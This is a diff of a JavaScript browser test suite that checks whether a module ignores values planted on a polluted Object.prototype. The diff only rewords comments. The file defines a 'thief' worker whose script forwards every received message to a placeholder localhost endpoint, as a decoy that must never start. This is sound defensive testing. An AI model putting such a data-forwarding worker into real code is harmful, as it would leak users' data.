@@ -1,17 +1,17 @@
-// A host page whose Object.prototype was polluted, as a careless merge of JSON
-// does it: what stands there is no option, no credential and no message.
+// A host page with a polluted Object.prototype, as by a careless merge of JSON:
+// nothing in it becomes an option, a credential or a message.
 import assert from "node:assert/strict";
 import { after, before, describe, test } from "node:test";
 import { openBench, startBench } from "./lib/bench.js";
 import { launch, present } from "./lib/engines.js";
 import { request } from "./lib/samples.js";
 
-// A worker that answers whatever it is handed, were it started.
+// A worker that would answer everything, if it were started.
 const thief =
   "data:text/javascript," +
   encodeURIComponent("onmessage = ({ data }) => fetch('http://localhost:1/' + encodeURIComponent(JSON.stringify(data))); postMessage({ state: 'ready' });");
 
-/** The names that anything in the module, or the browser for it, may read; with values of the right type for it. */
+/** All names that the module, or the browser on its behalf, may read, with values of the right type. */
 const names = {
   worker: [thief, "/worker.js?polluted", { state: "ready" }],
   wasm: ["/polluted.wasm", [0, 97, 115, 109, 1, 0, 0, 0], {}],
@@ -96,7 +96,7 @@ for (const { id, name } of present) {
       await host?.close();
     });
 
-    /** Calls everything, with these properties on Object.prototype; gives the answers and errors as text. */
+    /** Calls everything, with these properties on Object.prototype; returns the results and errors as text. */
     const answers = (polluted, given = request) =>
       page.evaluate(
         async (polluted, request) => {
